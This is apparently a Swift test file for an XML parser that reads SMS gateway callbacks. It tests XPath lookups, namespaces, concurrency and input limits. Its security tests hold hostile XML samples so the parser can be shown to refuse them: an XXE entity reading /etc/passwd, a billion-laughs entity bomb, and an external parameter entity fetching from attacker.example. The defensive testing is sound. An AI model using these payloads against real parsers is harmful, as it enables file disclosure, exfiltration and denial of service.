import Foundation
import LetterboxXML
import Testing

struct XMLDocumentTests {
    func parse(_ text: String, limits: XMLDocument.Limits = .init(), namespaces: [String: String] = [:]) throws -> XMLDocument {
        try XMLDocument(Array(text.utf8), limits: limits, namespaces: namespaces)
    }

    @Test func readsKannelStyleXMLWithXPath() throws {
        let doc = try parse("""
            <?xml version="1.0" encoding="UTF-8"?>
            <message><submit><da><number>447700900123</number></da><oa><number>07700900456</number></oa>
            <ud>Boiler%20broken%20%C2%A3</ud><from>fakesmsc</from></submit></message>
            """)
        #expect(doc.rootName == "message")
        #expect(try doc.string("/message/submit/oa/number") == "07700900456")
        #expect(try doc.string("count(//number)") == "2")
        #expect(try doc.strings("//number") == ["447700900123", "07700900456"])
        #expect(try doc.string("/message/missing") == nil)
    }

    @Test("A path of element names reads what the same XPath selects first: real Kannel callbacks, repeats, a namespace, empty and absent elements")
    func pathsReadAsTheirXPath() throws {
        // The captured Kannel callbacks in ../shared/corpora/sms, where that folder is on the machine.
        let corpus = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("../../../shared/corpora/sms").standardized
        var documents: [XMLDocument] = []
        if FileManager.default.fileExists(atPath: corpus.path) {
            documents = try FileManager.default.contentsOfDirectory(atPath: corpus.path).filter { $0.hasPrefix("kannel-mo") && $0.hasSuffix(".xml") }.sorted()
                .map { try XMLDocument(Array(Data(contentsOf: corpus.appendingPathComponent($0))), limits: .init()) }
            #expect(documents.count >= 6)
        }
        documents.append(try parse("""
            <message xmlns:e="urn:example"><submit><oa>first submit, no number</oa></submit>
            <submit><oa><number>111</number><number>222</number></oa><ud/><e:ud>namespaced</e:ud></submit><ud>outside</ud></message>
            """))
        documents.append(try parse("<message xmlns=\"urn:default\"><submit><ud>in a default namespace</ud></submit></message>"))
        let paths = [
            ["message", "submit", "ud"], ["message", "submit", "udh"], ["message", "submit", "dcs", "coding"],
            ["message", "submit", "oa", "number"], ["message", "submit", "da", "number"], ["message", "submit", "at", "year"],
            ["message", "submit", "at", "timezone"], ["message", "ud"], ["message"], ["other", "submit"], ["message", "missing"],
        ]
        for document in documents {
            for path in paths {
                #expect(document.text(at: path) == (try document.string("/" + path.joined(separator: "/"))), "\(path)")
            }
        }
        #expect(documents[documents.count - 2].text(at: ["message", "submit", "oa", "number"]) == "111")
        #expect(documents[documents.count - 2].text(at: ["message", "submit", "ud"]) == "")
        #expect(documents[documents.count - 1].text(at: ["message", "submit", "ud"]) == nil)
    }

    @Test("One document asked many questions, a bad one among them, answers each as a document asked only that one would")
    func questionsInTurnAnswerAsIfAlone() throws {
        let text = """
            <message xmlns:e="urn:example"><submit><at><year>2026</year><month>3</month></at>
            <ud>Boiler</ud><e:x>one</e:x><e:x>two</e:x></submit></message>
            """
        let namespaces = ["e": "urn:example"]
        let questions = [
            "/message/submit/at/year", "count(//e:x)", "///", "string(submit)", "//e:x", "/message/submit/at/month",
            "position()", "last()", "name(*)", "/message/nothing", "string(/message/submit/ud)", "(//e:x)[last()]",
        ]
        let shared = try parse(text, namespaces: namespaces)
        for question in questions {
            let alone = try parse(text, namespaces: namespaces)
            #expect(Result { try shared.strings(question) }.answer == Result { try alone.strings(question) }.answer, "\(question)")
        }
        #expect(try shared.strings("//e:x") == ["one", "two"])
        #expect(try shared.string("string(submit)") == "")
    }

    @Test("Threads asking one document at once each get the right answer")
    func questionsFromManyThreadsAtOnce() async throws {
        let doc = try parse("<m><a>1</a><b>2</b><c>3</c></m>")
        let wrong = await withTaskGroup(of: Int.self) { group in
            for task in 0..<8 {
                group.addTask {
                    var wrong = 0
                    for round in 0..<300 {
                        let (path, expected) = [("/m/a", "1"), ("/m/b", "2"), ("/m/c", "3")][(task + round) % 3]
                        if (try? doc.string(path)) != expected { wrong += 1 }
                    }
                    return wrong
                }
            }
            return await group.reduce(0, +)
        }
        #expect(wrong == 0)
    }

    @Test func namespacesAreRegisteredForXPath() throws {
        let doc = try parse(
            "<InboundMessage xmlns=\"http://api.esendex.com/ns/\"><MessageText>Hello</MessageText></InboundMessage>",
            namespaces: ["e": "http://api.esendex.com/ns/"]
        )
        #expect(try doc.string("/e:InboundMessage/e:MessageText") == "Hello")
    }

    @Test func externalEntitiesAreNeverRead() throws {
        let xxe = """
            <?xml version="1.0"?>
            <!DOCTYPE m [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
            <m><text>&xxe;</text></m>
            """
        do {
            let doc = try parse(xxe)
            let text = try doc.string("/m/text") ?? ""
            Issue.record("an entity document was accepted, text: \(text.prefix(40))")
            #expect(!text.contains("root:"))
        } catch let error as XMLError {
            #expect(error.description.contains("entit") || error.description.contains("malformed"))
        }
    }

    @Test func anEntityBombIsRefusedQuickly() throws {
        var bomb = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n"
        bomb += "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
        for level in 2...9 {
            bomb += "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level - 1);", count: 10) + "\">\n"
        }
        bomb += "]>\n<lolz>&lol9;</lolz>"
        let start = Date()
        #expect(throws: XMLError.self) { try parse(bomb) }
        #expect(Date().timeIntervalSince(start) < 2)
    }

    @Test func limitsAndMalformedInput() {
        #expect(throws: XMLError.self) { try parse("") }
        #expect(throws: XMLError.self) { try parse("<a><b></a>") }
        #expect(throws: XMLError.self) { try parse("<a>" + String(repeating: "x", count: 2000) + "</a>", limits: .init(maxBytes: 1000)) }
        let deep = String(repeating: "<d>", count: 100) + String(repeating: "</d>", count: 100)
        #expect(throws: XMLError.self) { try parse(deep, limits: .init(maxDepth: 64)) }
        #expect((try? parse(deep, limits: .init(maxDepth: 200))) != nil)
        let error = #expect(throws: XMLError.self) { try parse("<a><b></a>") }
        #expect(error?.description.contains("line") == true)
    }
}

/// Every captured gateway payload in ../shared/corpora/sms parses (skipped when it is absent).
struct GatewayPayloadTests {
    @Test func capturedPayloadsParse() throws {
        let corpora = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .deletingLastPathComponent().deletingLastPathComponent().appendingPathComponent("shared/corpora/sms")
        guard let names = try? FileManager.default.contentsOfDirectory(atPath: corpora.path) else {
            print("GatewayPayloadTests: ../shared/corpora/sms is not on this machine; skipped.")
            return
        }
        let xmlFiles = names.filter { $0.hasSuffix(".xml") }.sorted()
        #expect(xmlFiles.count >= 10)
        for name in xmlFiles {
            let bytes = try [UInt8](Data(contentsOf: corpora.appendingPathComponent(name)))
            let doc = try XMLDocument(bytes)
            #expect(doc.rootName != nil, "\(name)")
        }
        let kannel = try XMLDocument([UInt8](Data(contentsOf: corpora.appendingPathComponent("kannel-mo.xml"))))
        #expect(try kannel.string("/message/submit/oa/number") == "447700900123")
        #expect(try kannel.string("/message/submit/ud")?.hasPrefix("Hi%2C+the+boiler") == true)
    }

    @Test("A DOCTYPE with any declaration is refused, used or not (a parameter entity too); a bare DOCTYPE is read")
    func declarationsAreRefused() throws {
        let parameterEntity = #"<?xml version="1.0"?><!DOCTYPE m [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">]><m><t>hi</t></m>"#
        let unusedEntity = #"<?xml version="1.0"?><!DOCTYPE m [<!ENTITY e "x">]><m><t>hi</t></m>"#
        let elementDeclaration = #"<?xml version="1.0"?><!DOCTYPE m [<!ELEMENT m ANY>]><m><t>hi</t></m>"#
        for text in [parameterEntity, unusedEntity, elementDeclaration] {
            #expect(throws: XMLError.self, "\(text)") { _ = try XMLDocument(Array(text.utf8)) }
        }
        let bare = try XMLDocument(Array(#"<?xml version="1.0"?><!DOCTYPE m><m><t>hi</t></m>"#.utf8))
        #expect(try bare.string("/m/t") == "hi")
    }
}

extension Result where Success == [String] {
    /// The strings, or the error's words: comparable.
    fileprivate var answer: String {
        switch self {
        case .success(let strings): return "ok: \(strings)"
        case .failure(let error): return "error: \(error)"
        }
    }
}
